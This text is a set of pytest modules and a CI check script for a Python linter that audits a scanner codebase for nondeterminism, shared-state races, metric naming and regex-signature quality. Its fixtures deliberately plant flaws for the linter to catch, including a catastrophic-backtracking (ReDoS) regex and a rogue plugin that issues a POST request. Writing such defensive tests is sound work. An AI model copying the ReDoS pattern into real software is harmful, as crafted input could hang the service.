"""The incremental parallel engine: determinism, cache, scoping.

The acceptance bar from the issue: the report must be byte-identical
across ``--jobs 1`` vs ``--jobs 4`` and across cold vs warm cache, the
cache must actually skip work on a clean re-run, and an edit must
invalidate exactly the edited file's units (plus the whole-tree rules).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.lint.cli import main
from repro.lint.engine import CACHE_VERSION, LintEngine


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A small self-contained package with one violation per scope:
    a wall-clock read (file-scope DET001) and a worker-reachable shared
    counter (tree-scope RACE002 + DET005)."""
    root = tmp_path / "repro"
    root.mkdir()
    (root / "clockuser.py").write_text(
        "import time\n\ndef stamp():\n    return time.time()\n"
    )
    (root / "engine.py").write_text(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "\n"
        "WORKER_ENTRY_POINTS = (\n"
        '    "repro.engine.Engine._work",\n'
        ")\n"
        "\n"
        "\n"
        "class Engine:\n"
        "    def __init__(self):\n"
        "        self.done = 0\n"
        "\n"
        "    def run(self, shards):\n"
        "        with ThreadPoolExecutor() as pool:\n"
        "            for shard in shards:\n"
        "                pool.submit(self._work, shard)\n"
        "\n"
        "    def _work(self, shard):\n"
        "        self.done += 1\n"
        "        return shard\n"
    )
    return root


def lint(root: Path, **kwargs):
    kwargs.setdefault("with_corpus", False)
    kwargs.setdefault(
        "analyzers", ("determinism", "observability", "concurrency")
    )
    return LintEngine(root, **kwargs)


class TestDeterminism:
    def test_jobs_one_and_four_produce_identical_findings(self, tree):
        one = lint(tree, jobs=1, cache_path=None).run()
        four = lint(tree, jobs=4, cache_path=None).run()
        assert one.findings == four.findings
        assert one.findings  # the fixture is not accidentally clean

    def test_cold_and_warm_cache_produce_identical_findings(
        self, tree, tmp_path
    ):
        cache = tmp_path / "cache.json"
        cold = lint(tree, cache_path=cache).run()
        warm = lint(tree, cache_path=cache).run()
        assert cold.findings == warm.findings
        assert cold.stats.units_executed > 0
        assert cold.stats.units_from_cache == 0
        assert warm.stats.units_executed == 0
        assert warm.stats.units_from_cache == warm.stats.units_total

    def test_expected_rules_fire(self, tree):
        result = lint(tree, cache_path=None).run()
        rules = {(f.rule, f.path) for f in result.findings}
        assert ("DET001", "repro/clockuser.py") in rules
        assert ("RACE002", "repro/engine.py") in rules
        assert ("DET005", "repro/engine.py") in rules


class TestCacheInvalidation:
    def test_editing_one_file_reruns_only_its_units_and_tree_rules(
        self, tree, tmp_path
    ):
        cache = tmp_path / "cache.json"
        lint(tree, cache_path=cache).run()
        (tree / "clockuser.py").write_text(
            "def stamp():\n    return 0.0\n"
        )
        result = lint(tree, cache_path=cache).run()
        per = result.stats.by_analyzer
        # one file changed: its determinism + observability units re-ran,
        # the other file's came from cache
        assert per["determinism"] == {
            "executed": 1, "from_cache": 1, "skipped": 0,
        }
        assert per["observability"] == {
            "executed": 1, "from_cache": 1, "skipped": 0,
        }
        # any edit re-keys the tree digest, so concurrency re-ran
        assert per["concurrency"]["executed"] == 1
        # and the fix is reflected: the DET001 is gone
        assert not [f for f in result.findings if f.rule == "DET001"]

    def test_corrupt_cache_degrades_to_cold_run(self, tree, tmp_path):
        cache = tmp_path / "cache.json"
        baseline = lint(tree, cache_path=None).run()
        for garbage in ("not json{", '"a string"', '{"version": -1}'):
            cache.write_text(garbage)
            result = lint(tree, cache_path=cache).run()
            assert result.findings == baseline.findings
            assert result.stats.units_from_cache == 0

    def test_cache_version_drift_invalidates_wholesale(self, tree, tmp_path):
        cache = tmp_path / "cache.json"
        lint(tree, cache_path=cache).run()
        payload = json.loads(cache.read_text())
        assert payload["version"] == CACHE_VERSION
        payload["version"] = CACHE_VERSION - 1
        cache.write_text(json.dumps(payload))
        result = lint(tree, cache_path=cache).run()
        assert result.stats.units_from_cache == 0

    def test_missing_cache_dir_is_tolerated(self, tree, tmp_path):
        cache = tmp_path / "no" / "such" / "dir" / "cache.json"
        result = lint(tree, cache_path=cache).run()
        assert result.findings  # linted fine, cache write just skipped


class TestChangedOnly:
    def test_reports_only_changed_files(self, tree, tmp_path):
        cache = tmp_path / "cache.json"
        lint(tree, cache_path=cache).run()
        (tree / "clockuser.py").write_text(
            "import time\n\n\ndef stamp():\n    return time.time()\n"
        )
        result = lint(tree, cache_path=cache, changed_only=True).run()
        assert {f.path for f in result.findings} == {"repro/clockuser.py"}
        per = result.stats.by_analyzer
        assert per["determinism"] == {
            "executed": 1, "from_cache": 0, "skipped": 1,
        }

    def test_clean_tree_reports_nothing(self, tree, tmp_path):
        cache = tmp_path / "cache.json"
        lint(tree, cache_path=cache).run()
        result = lint(tree, cache_path=cache, changed_only=True).run()
        assert result.findings == []
        assert result.stats.changed_files == 0


class TestValidation:
    def test_zero_jobs_is_rejected(self, tree):
        with pytest.raises(ValueError):
            LintEngine(tree, jobs=0)


def run_cli(args, capsys):
    code = main(args)
    return code, capsys.readouterr().out


class TestCliFlags:
    def test_jobs_reports_are_byte_identical(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        args = ["--root", str(tree), "--no-corpus", "--no-cache",
                "--format", "json"]
        _, one = run_cli(args + ["--jobs", "1"], capsys)
        _, four = run_cli(args + ["--jobs", "4"], capsys)
        assert one == four

    def test_stats_out_writes_the_ci_artifact(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        stats_file = tmp_path / "lint-stats.json"
        code, _ = run_cli(
            ["--root", str(tree), "--no-corpus", "--jobs", "2",
             "--stats-out", str(stats_file)],
            capsys,
        )
        assert code == 1  # fixture has findings, no baseline
        stats = json.loads(stats_file.read_text())
        assert stats["jobs"] == 2
        assert stats["files_total"] == 2
        assert stats["elapsed_wall_seconds"] > 0
        assert set(stats["by_analyzer"]) == {
            "determinism", "observability", "signatures", "plugins",
            "concurrency",
        }

    def test_warm_cache_cli_run_matches_cold(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        args = ["--root", str(tree), "--no-corpus", "--format", "json"]
        _, cold = run_cli(args, capsys)
        assert (tmp_path / ".reprolint-cache.json").is_file()
        _, warm = run_cli(args, capsys)
        assert cold == warm

    def test_changed_only_with_update_baseline_is_a_usage_error(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        code = main(["--root", str(tree), "--no-corpus",
                     "--changed-only", "--update-baseline"])
        assert code == 2

    def test_bad_jobs_is_a_usage_error(self, tree, tmp_path, monkeypatch):
        monkeypatch.chdir(tmp_path)
        assert main(["--root", str(tree), "--jobs", "0"]) == 2
