"""End-to-end CLI behaviour: exit codes, determinism, baseline, telemetry."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.lint.cli import main

BAD_PREFILTER = (
    "SIGNATURES = {\n"
    '    "app": (\n'
    '        r"(a+)+b",\n'
    "    ),\n"
    "}\n"
)

BAD_PLUGIN = (
    "class EvilPlugin:\n"
    '    slug = "app"\n'
    "    def detect(self, context):\n"
    '        return context.post("/")\n'
)

CLOCK_USER = "import time\n\ndef stamp():\n    return time.time()\n"


@pytest.fixture
def broken_tree(tmp_path: Path) -> Path:
    """A minimal repro tree with a ReDoS signature, a rogue plugin, and a
    wall-clock read — one violation per analyzer."""
    root = tmp_path / "repro"
    (root / "core" / "tsunami" / "plugins").mkdir(parents=True)
    (root / "core" / "prefilter.py").write_text(BAD_PREFILTER)
    (root / "core" / "tsunami" / "plugins" / "evil.py").write_text(BAD_PLUGIN)
    (root / "clockuser.py").write_text(CLOCK_USER)
    return root


def run(args: list[str], capsys) -> tuple[int, str]:
    code = main(args)
    return code, capsys.readouterr().out


REPO_BASELINE = Path(__file__).resolve().parents[2] / "reprolint-baseline.json"


class TestRealTree:
    def test_real_tree_with_repo_baseline_exits_zero(
        self, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        code, out = run(["--baseline", str(REPO_BASELINE)], capsys)
        assert code == 0
        assert "baselined" in out

    def test_without_baseline_only_the_sanctioned_finding_remains(
        self, tmp_path, capsys, monkeypatch
    ):
        """Exactly one finding is *deliberate* and explicitly baselined —
        the profiler's wall-clock read (DET001).  The parallel engine's
        old DET005 (worker-side progress counter) was fixed by folding
        shard completions on the main thread, so nothing else — no
        DET, no RACE, no PKL — may surface on the real tree."""
        monkeypatch.chdir(tmp_path)  # no baseline file in CWD
        code, out = run(["--format", "json"], capsys)
        assert code == 1
        report = json.loads(out)
        assert [(f["rule"], f["path"]) for f in report["findings"]] == [
            ("DET001", "repro/obs/profile.py"),
        ]


class TestBrokenTree:
    def test_exits_nonzero_and_names_the_defects(
        self, broken_tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        code, out = run(
            ["--root", str(broken_tree), "--no-corpus", "--format", "json"],
            capsys,
        )
        assert code == 1
        report = json.loads(out)
        rules = {f["rule"] for f in report["findings"]}
        assert {"SIG002", "PLG001", "PLG006", "DET001"} <= rules
        det = next(f for f in report["findings"] if f["rule"] == "DET001")
        assert det["path"] == "repro/clockuser.py"
        assert det["line"] == 4

    def test_consecutive_json_runs_are_byte_identical(
        self, broken_tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        args = ["--root", str(broken_tree), "--no-corpus", "--format", "json"]
        _, first = run(args, capsys)
        _, second = run(args, capsys)
        assert first == second

    def test_update_baseline_then_rerun_exits_zero(
        self, broken_tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        baseline = tmp_path / "baseline.json"
        args = ["--root", str(broken_tree), "--no-corpus",
                "--baseline", str(baseline)]
        code, _ = run(args + ["--update-baseline"], capsys)
        assert code == 0
        saved = json.loads(baseline.read_text())
        assert saved["version"] == 1 and saved["fingerprints"]
        code, out = run(args, capsys)
        assert code == 0
        assert "baselined" in out

    def test_out_file_receives_the_report(
        self, broken_tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        out_file = tmp_path / "report.json"
        code, _ = run(
            ["--root", str(broken_tree), "--no-corpus", "--format", "json",
             "--out", str(out_file)],
            capsys,
        )
        assert code == 1
        assert json.loads(out_file.read_text())["total"] >= 4


class TestAuxiliaryModes:
    def test_rules_catalog_lists_every_rule(self, capsys):
        code, out = run(["--rules"], capsys)
        assert code == 0
        for rule in ("SIG001", "PLG001", "DET001", "LNT001"):
            assert rule in out

    def test_bad_root_is_a_usage_error(self, tmp_path, capsys):
        code = main(["--root", str(tmp_path / "missing")])
        assert code == 2

    def test_telemetry_prometheus_counts_findings(
        self, broken_tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        code, out = run(
            ["--root", str(broken_tree), "--no-corpus",
             "--telemetry", "prometheus"],
            capsys,
        )
        assert code == 1
        assert "lint_runs_total" in out
        assert 'lint_findings_total{rule="DET001"}' in out
