"""Tests for the observability auditor (OBS001)."""

import textwrap

from repro.lint.cli import default_root
from repro.lint.observability import ObservabilityAuditor


def audit(tmp_path, source):
    (tmp_path / "mod.py").write_text(textwrap.dedent(source))
    return ObservabilityAuditor(tmp_path).run()


def rules(findings):
    return [finding.rule for finding in findings]


class TestDynamicMetricNames:
    def test_fstring_name_is_flagged(self, tmp_path):
        findings = audit(tmp_path, """
            def charge(registry, host):
                registry.counter(f"probes_{host}_total").inc()
        """)
        assert rules(findings) == ["OBS001"]
        assert "f-string" in findings[0].message

    def test_concatenation_with_variable_is_flagged(self, tmp_path):
        findings = audit(tmp_path, """
            def charge(registry, slug):
                registry.gauge("depth_" + slug).set(1)
        """)
        assert rules(findings) == ["OBS001"]

    def test_percent_formatting_is_flagged(self, tmp_path):
        findings = audit(tmp_path, """
            def charge(registry, port):
                registry.histogram("lat_%s" % port).observe(0.1)
        """)
        assert rules(findings) == ["OBS001"]

    def test_str_format_is_flagged(self, tmp_path):
        findings = audit(tmp_path, """
            def charge(registry, host):
                registry.counter("probes_{}_total".format(host)).inc()
        """)
        assert rules(findings) == ["OBS001"]

    def test_finding_carries_file_and_line(self, tmp_path):
        (finding,) = audit(tmp_path, """
            def charge(registry, host):
                registry.counter(f"x_{host}").inc()
        """)
        assert finding.path.endswith("mod.py")
        assert finding.line == 3


class TestSanctionedNames:
    def test_constant_name_with_labels_is_fine(self, tmp_path):
        assert audit(tmp_path, """
            def charge(registry, host):
                registry.counter("probes_total", host=host).inc()
        """) == []

    def test_constant_through_a_variable_is_fine(self, tmp_path):
        assert audit(tmp_path, """
            FUNNEL = "funnel_hosts_total"

            def charge(registry, stage):
                registry.counter(FUNNEL, stage=stage).inc()
        """) == []

    def test_constant_concatenation_is_fine(self, tmp_path):
        assert audit(tmp_path, """
            def charge(registry):
                registry.counter("probes_" + "total").inc()
        """) == []

    def test_fstring_without_fields_is_fine(self, tmp_path):
        assert audit(tmp_path, """
            def charge(registry):
                registry.counter(f"probes_total").inc()
        """) == []

    def test_non_factory_calls_are_ignored(self, tmp_path):
        assert audit(tmp_path, """
            def log(events, host):
                events.info(f"probing {host}")
        """) == []

    def test_unparseable_file_reports_lnt001(self, tmp_path):
        findings = audit(tmp_path, "def broken(:\n")
        assert rules(findings) == ["LNT001"]


class TestRepoIsClean:
    def test_the_package_has_no_dynamic_metric_names(self):
        assert ObservabilityAuditor(default_root()).run() == []
