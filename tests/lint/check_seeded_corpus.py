"""Analyzer self-test gate: the seeded-bug corpus must yield exactly
the known findings.

The corpus under ``fixtures/seeded_bugs/`` re-introduces the three
concurrency/pickle bugs PR 7 hit at runtime; this script runs the full
analyzer stack over it and diffs the result against the committed
``expected.json``.  CI runs it as a standalone gate (any drift — a
missed seeded bug, or new noise — fails the job); the pytest suite
calls :func:`check` for the same assertion.

Usage: ``PYTHONPATH=src python tests/lint/check_seeded_corpus.py``
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "fixtures" / "seeded_bugs" / "repro"
EXPECTED = HERE / "fixtures" / "seeded_bugs" / "expected.json"


def actual_findings() -> list[dict]:
    from repro.lint.engine import LintEngine

    result = LintEngine(
        CORPUS,
        with_corpus=False,
        cache_path=None,
        analyzers=("determinism", "observability", "concurrency"),
    ).run()
    return [
        {"path": f.path, "line": f.line, "rule": f.rule}
        for f in result.findings
    ]


def check() -> list[str]:
    """Differences between expected and actual findings (empty = pass)."""
    expected = json.loads(EXPECTED.read_text())["findings"]
    actual = actual_findings()
    problems: list[str] = []
    for finding in expected:
        if finding not in actual:
            problems.append(f"missing expected finding: {finding}")
    for finding in actual:
        if finding not in expected:
            problems.append(f"unexpected finding: {finding}")
    return problems


def main() -> int:
    problems = check()
    if problems:
        for problem in problems:
            print(problem, file=sys.stderr)
        return 1
    print(f"seeded-bug corpus: all {len(actual_findings())} known findings "
          "flagged, no extras.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
