"""Signature auditor: shape analysis and the corpus precision checks."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.lint.signatures import (
    SignatureAuditor,
    backtracking_hazards,
    extract_signatures,
    longest_guaranteed_literal_run,
)

REPRO_ROOT = Path(__file__).resolve().parents[2] / "src" / "repro"


def write_prefilter(tmp_path: Path, body: str) -> Path:
    root = tmp_path / "repro"
    (root / "core").mkdir(parents=True)
    (root / "core" / "prefilter.py").write_text(body)
    return root


class TestExtraction:
    def test_real_corpus_extracts_90_signatures(self):
        triples = extract_signatures(REPRO_ROOT / "core" / "prefilter.py")
        assert len(triples) == 90
        slugs = {slug for slug, _, _ in triples}
        assert len(slugs) == 18

    def test_lines_point_at_the_pattern(self, tmp_path):
        root = write_prefilter(
            tmp_path,
            'SIGNATURES = {\n    "app": (\n        r"alpha",\n        r"beta",\n    ),\n}\n',
        )
        triples = extract_signatures(root / "core" / "prefilter.py")
        assert triples == [("app", "alpha", 3), ("app", "beta", 4)]

    def test_missing_dict_raises(self, tmp_path):
        root = write_prefilter(tmp_path, "OTHER = {}\n")
        with pytest.raises(ValueError):
            extract_signatures(root / "core" / "prefilter.py")


class TestShapeRules:
    @pytest.mark.parametrize("pattern", ["(a+)+b", "(x*)*y", "(?:\\d+)+z"])
    def test_nested_quantifiers_flagged(self, pattern):
        assert backtracking_hazards(pattern)

    def test_ambiguous_alternation_under_repeat_flagged(self):
        # NB: sre folds shared alternation prefixes ("abc|abd" -> "ab[cd]"),
        # so the branches must stay distinct for BRANCH to survive parsing.
        assert "ambiguous alternation under a repeat" in backtracking_hazards(
            "(cat|car|cart)+"
        )

    @pytest.mark.parametrize(
        "pattern",
        [
            r"Dashboard \[Jenkins\]",
            r"jupyter-main-app.*JupyterLab",
            r"EnableLocalScriptChecks|EnableRemoteScriptChecks",
            r"[Ll]ogged in as: dr\.who",
        ],
    )
    def test_real_corpus_shapes_are_benign(self, pattern):
        assert backtracking_hazards(pattern) == []

    @pytest.mark.parametrize(
        "pattern,expected",
        [
            (r"wp-json", 7),
            (r".*", 0),
            (r"a.*b", 1),
            (r"alpha|beta", 4),  # min over branches
            (r"x{4}", 4),
        ],
    )
    def test_literal_run(self, pattern, expected):
        assert longest_guaranteed_literal_run(pattern) == expected


class TestAuditor:
    def test_repaired_tree_is_clean(self, signature_corpus):
        findings = SignatureAuditor(REPRO_ROOT, corpus=signature_corpus).run()
        assert findings == []

    def test_redos_signature_flagged_with_location(self, tmp_path):
        root = write_prefilter(
            tmp_path, 'SIGNATURES = {\n    "app": (\n        r"(a+)+b",\n    ),\n}\n'
        )
        findings = SignatureAuditor(root, expected_count=None).run()
        rules = {f.rule for f in findings}
        assert "SIG002" in rules
        sig002 = next(f for f in findings if f.rule == "SIG002")
        assert sig002.path == "repro/core/prefilter.py"
        assert sig002.line == 3

    def test_non_compiling_signature_flagged(self, tmp_path):
        root = write_prefilter(
            tmp_path, 'SIGNATURES = {\n    "app": (\n        r"(unclosed",\n    ),\n}\n'
        )
        findings = SignatureAuditor(root, expected_count=None).run()
        assert [f.rule for f in findings] == ["SIG001"]

    def test_dead_and_cross_matching_signatures(self, tmp_path):
        root = write_prefilter(
            tmp_path,
            "SIGNATURES = {\n"
            '    "one": (\n        r"only-in-two",\n    ),\n'
            '    "two": (\n        r"marker-of-two",\n    ),\n'
            "}\n",
        )
        corpus = {
            "one": {"secure:/": "<html>marker-of-one</html>"},
            "two": {"secure:/": "<html>only-in-two marker-of-two</html>"},
        }
        findings = SignatureAuditor(root, corpus=corpus, expected_count=None).run()
        rules = sorted(f.rule for f in findings)
        # 'only-in-two' is dead for app one AND hits app two's pages.
        assert rules == ["SIG004", "SIG005"]

    def test_unknown_slug_and_wrong_count(self, tmp_path):
        root = write_prefilter(
            tmp_path, 'SIGNATURES = {\n    "ghost": (\n        r"spooky-marker",\n    ),\n}\n'
        )
        findings = SignatureAuditor(
            root, known_slugs=frozenset({"real"}), expected_count=5
        ).run()
        assert sorted(f.rule for f in findings) == ["SIG006", "SIG006"]

    def test_syntax_error_reported_not_raised(self, tmp_path):
        root = write_prefilter(tmp_path, "def broken(:\n")
        findings = SignatureAuditor(root).run()
        assert [f.rule for f in findings] == ["LNT001"]
