"""Determinism auditor: the shipping tree is clean, violations are caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.lint.determinism import DeterminismAuditor

REPRO_ROOT = Path(__file__).resolve().parents[2] / "src" / "repro"


def audit_source(tmp_path: Path, source: str):
    root = tmp_path / "repro"
    root.mkdir()
    (root / "module.py").write_text(source)
    return DeterminismAuditor(root).run()


class TestRealTree:
    def test_shipping_sources_are_deterministic(self):
        """Every finding in the shipping tree must be explicitly baselined
        (the parallel engine's progress counter and the profiler's
        wall-clock read are the only entries)."""
        import json

        baseline_path = REPRO_ROOT.parents[1] / "reprolint-baseline.json"
        baselined = set(json.loads(baseline_path.read_text())["fingerprints"])
        findings = DeterminismAuditor(REPRO_ROOT).run()
        assert [f for f in findings if f.fingerprint() not in baselined] == []
        assert {f.rule for f in findings} <= {"DET001", "DET005"}


class TestWallClock:
    @pytest.mark.parametrize(
        "source",
        [
            "import time\nnow = time.time()\n",
            "import time\nnow = time.monotonic()\n",
            "import time as t\nnow = t.perf_counter()\n",
            "from time import time\nnow = time()\n",
            "from time import time as clock\nnow = clock()\n",
            "import datetime\nnow = datetime.datetime.now()\n",
            "from datetime import datetime\nnow = datetime.utcnow()\n",
            "from datetime import date\ntoday = date.today()\n",
        ],
    )
    def test_clock_reads_flagged(self, tmp_path, source):
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET001"]

    def test_parsing_a_timestamp_is_fine(self, tmp_path):
        source = (
            "from datetime import datetime\n"
            'when = datetime.fromtimestamp(0)\n'
        )
        assert audit_source(tmp_path, source) == []


class TestEntropy:
    @pytest.mark.parametrize(
        "source",
        [
            "import os\ntoken = os.urandom(8)\n",
            "import uuid\nident = uuid.uuid4()\n",
            "import random\nrng = random.SystemRandom()\n",
            "import secrets\ntoken = secrets.token_hex()\n",
        ],
    )
    def test_entropy_sources_flagged(self, tmp_path, source):
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET002"]


class TestRandom:
    @pytest.mark.parametrize(
        "source",
        [
            "import random\nx = random.random()\n",
            "import random\nx = random.randint(0, 9)\n",
            "import random\nrng = random.Random()\n",
        ],
    )
    def test_unseeded_random_flagged(self, tmp_path, source):
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET003"]

    def test_seeded_generator_is_fine(self, tmp_path):
        source = (
            "import random\n"
            "rng = random.Random(42)\n"
            "x = rng.random()\n"
        )
        assert audit_source(tmp_path, source) == []


class TestSetIteration:
    def test_iterating_a_set_literal_flagged(self, tmp_path):
        source = "for item in {1, 2, 3}:\n    pass\n"
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET004"]
        assert findings[0].severity.value == "warning"

    def test_comprehension_over_set_call_flagged(self, tmp_path):
        source = "items = [x for x in set(range(3))]\n"
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET004"]

    def test_sorted_set_is_fine(self, tmp_path):
        source = "for item in sorted({3, 1, 2}):\n    pass\n"
        assert audit_source(tmp_path, source) == []


class TestParseFailure:
    def test_unparseable_file_reported_not_raised(self, tmp_path):
        findings = audit_source(tmp_path, "def broken(:\n")
        assert [f.rule for f in findings] == ["LNT001"]


class TestWorkerPoolWrites:
    """DET005: callables handed to a pool must not write shared state."""

    def test_self_attribute_write_flagged(self, tmp_path):
        source = (
            "class Engine:\n"
            "    def run(self, pool, shards):\n"
            "        for shard in shards:\n"
            "            pool.submit(self._work, shard)\n"
            "    def _work(self, shard):\n"
            "        self.done += 1\n"
            "        return shard\n"
        )
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET005"]
        assert "self.done" in findings[0].message

    def test_free_name_write_flagged(self, tmp_path):
        source = (
            "results = {}\n"
            "def work(item):\n"
            "    results[item] = item * 2\n"
            "def run(pool, items):\n"
            "    pool.map(work, items)\n"
        )
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET005"]

    def test_global_and_nonlocal_flagged(self, tmp_path):
        source = (
            "count = 0\n"
            "def work(item):\n"
            "    global count\n"
            "    count = count + 1\n"
            "def run(pool, items):\n"
            "    pool.submit(work, items)\n"
        )
        findings = audit_source(tmp_path, source)
        assert "DET005" in [f.rule for f in findings]

    def test_param_and_local_writes_allowed(self, tmp_path):
        source = (
            "def work(item):\n"
            "    acc = {}\n"
            "    acc[item] = item * 2\n"
            "    item.results = acc\n"  # writing through a param is owned
            "    return acc\n"
            "def run(pool, items):\n"
            "    pool.submit(work, items)\n"
        )
        assert audit_source(tmp_path, source) == []

    def test_unsubmitted_function_not_audited(self, tmp_path):
        source = (
            "class Engine:\n"
            "    def _work(self, shard):\n"
            "        self.done += 1\n"
        )
        assert audit_source(tmp_path, source) == []

    def test_submit_of_plain_value_ignored(self, tmp_path):
        # e.g. ct_log.submit(certificate, when) — not a pool dispatch
        source = (
            "def publish(ct_log, certificate, when):\n"
            "    ct_log.submit(certificate, when)\n"
        )
        assert audit_source(tmp_path, source) == []

    def test_def_after_submit_site_still_audited(self, tmp_path):
        source = (
            "def run(pool, items):\n"
            "    pool.map(work, items)\n"
            "shared = []\n"
            "def work(item):\n"
            "    shared[0] = item\n"
        )
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET005"]


class TestUnboundedLoops:
    @pytest.mark.parametrize(
        "source",
        [
            "while True:\n    pass\n",
            "while 1:\n    pass\n",
            "def f():\n    while True:\n        step()\n",
        ],
    )
    def test_constant_true_loops_flagged(self, tmp_path, source):
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET006"]

    @pytest.mark.parametrize(
        "source",
        [
            "for attempt in range(3):\n    pass\n",
            "while pending:\n    pending = step(pending)\n",
            "def f(clock, deadline):\n"
            "    while clock.now < deadline:\n        step()\n",
        ],
    )
    def test_bounded_loops_are_fine(self, tmp_path, source):
        assert audit_source(tmp_path, source) == []

    def test_nested_unbounded_loop_flagged_once_per_loop(self, tmp_path):
        source = (
            "while True:\n"
            "    while 1:\n"
            "        pass\n"
        )
        findings = audit_source(tmp_path, source)
        assert [f.rule for f in findings] == ["DET006", "DET006"]
        assert [f.line for f in findings] == [1, 2]
