"""The whole-program call graph: entry points, taint, boundary classes."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.lint.callgraph import CallGraph


def make_tree(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "repro"
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return root


def reachable(graph: CallGraph) -> set[tuple[str, bool]]:
    """(qualname, shared) pairs for every worker-reachable context."""
    return {
        (graph.function_of(ctx).qualname, ctx.shared)
        for ctx in graph.worker_contexts().values()
    }


class TestEntryPoints:
    def test_registry_resolves_methods_and_functions(self, tmp_path):
        root = make_tree(tmp_path, {"eng.py": (
            "WORKER_ENTRY_POINTS = (\n"
            '    "repro.eng.Runner.run",\n'
            '    "repro.eng.work",\n'
            '    "repro.eng.no_such_thing",\n'
            ")\n"
            "\n"
            "\n"
            "def work(item):\n"
            "    return item\n"
            "\n"
            "\n"
            "class Runner:\n"
            "    def run(self, shard):\n"
            "        return shard\n"
        )})
        graph = CallGraph(root)
        entries = {
            (fn.qualname, owner)
            for fn, owner in graph.registry_entry_points()
        }
        assert entries == {
            ("repro.eng.Runner.run", "repro.eng.Runner"),
            ("repro.eng.work", None),
        }

    def test_fork_and_plugin_run_are_structural_entries(self, tmp_path):
        root = make_tree(tmp_path, {
            "net.py": (
                "class Transport:\n"
                "    def fork(self, seed):\n"
                "        return self\n"
            ),
            "plug.py": (
                "from repro.base import MavDetectionPlugin\n"
                "\n"
                "\n"
                "class Probe(MavDetectionPlugin):\n"
                "    def run(self, ctx):\n"
                "        return []\n"
                "\n"
                "\n"
                "class NotAPlugin:\n"
                "    def run(self, ctx):\n"
                "        return []\n"
            ),
            "base.py": "class MavDetectionPlugin:\n    pass\n",
        })
        graph = CallGraph(root)
        entries = {fn.qualname for fn, _ in graph.structural_entry_points()}
        assert "repro.net.Transport.fork" in entries
        assert "repro.plug.Probe.run" in entries
        assert "repro.plug.NotAPlugin.run" not in entries

    def test_pool_dispatch_seeds_self_methods_and_module_functions(
        self, tmp_path
    ):
        root = make_tree(tmp_path, {"eng.py": (
            "def helper(x):\n"
            "    return x\n"
            "\n"
            "\n"
            "class Engine:\n"
            "    def run(self, pool, shards):\n"
            "        for s in shards:\n"
            "            pool.submit(self._work, s)\n"
            "        pool.map(helper, shards)\n"
            "\n"
            "    def _work(self, s):\n"
            "        return s\n"
        )})
        graph = CallGraph(root)
        entries = {
            (fn.qualname, owner)
            for fn, owner in graph.dispatch_entry_points()
        }
        assert ("repro.eng.Engine._work", "repro.eng.Engine") in entries
        assert ("repro.eng.helper", None) in entries


class TestSharedTaint:
    @pytest.fixture
    def graph(self, tmp_path):
        return CallGraph(make_tree(tmp_path, {"eng.py": (
            'WORKER_ENTRY_POINTS = ("repro.eng.Runner.run",)\n'
            "\n"
            "\n"
            "class Pipeline:\n"
            "    def __init__(self):\n"
            "        self.state = 0\n"
            "\n"
            "    def go(self):\n"
            "        self.state += 1\n"
            "\n"
            "\n"
            "class Transport:\n"
            "    def probe(self):\n"
            "        return 1\n"
            "\n"
            "\n"
            "class Runner:\n"
            "    def run(self, shard):\n"
            "        self._step(shard)\n"
            "        pipeline = Pipeline()\n"
            "        pipeline.go()\n"
            "        return self.transport.probe()\n"
            "\n"
            "    def _step(self, shard):\n"
            "        pass\n"
        )}))

    def test_self_calls_inherit_the_shared_bit(self, graph):
        assert ("repro.eng.Runner._step", True) in reachable(graph)

    def test_constructed_objects_start_a_private_universe(self, graph):
        pairs = reachable(graph)
        # the constructor itself and methods called on the fresh object
        # are reachable, but never shared
        assert ("repro.eng.Pipeline.__init__", False) in pairs
        assert ("repro.eng.Pipeline.go", False) in pairs
        assert ("repro.eng.Pipeline.go", True) not in pairs

    def test_fields_of_a_shared_object_stay_shared(self, graph):
        # self.transport.probe(): the field of a shared runner is shared
        assert ("repro.eng.Transport.probe", True) in reachable(graph)


class TestBoundaryClasses:
    def test_registry_fork_and_subclass_closure(self, tmp_path):
        root = make_tree(tmp_path, {"net.py": (
            'PICKLE_BOUNDARY_TYPES = ("repro.net.Shard",)\n'
            "\n"
            "\n"
            "class Shard:\n"
            "    pass\n"
            "\n"
            "\n"
            "class Transport:\n"
            "    def fork(self, seed):\n"
            "        return self\n"
            "\n"
            "\n"
            "class ChaosTransport(Transport):\n"
            "    pass\n"
            "\n"
            "\n"
            "class Unrelated:\n"
            "    pass\n"
        )})
        boundary = set(CallGraph(root).boundary_classes())
        assert boundary == {
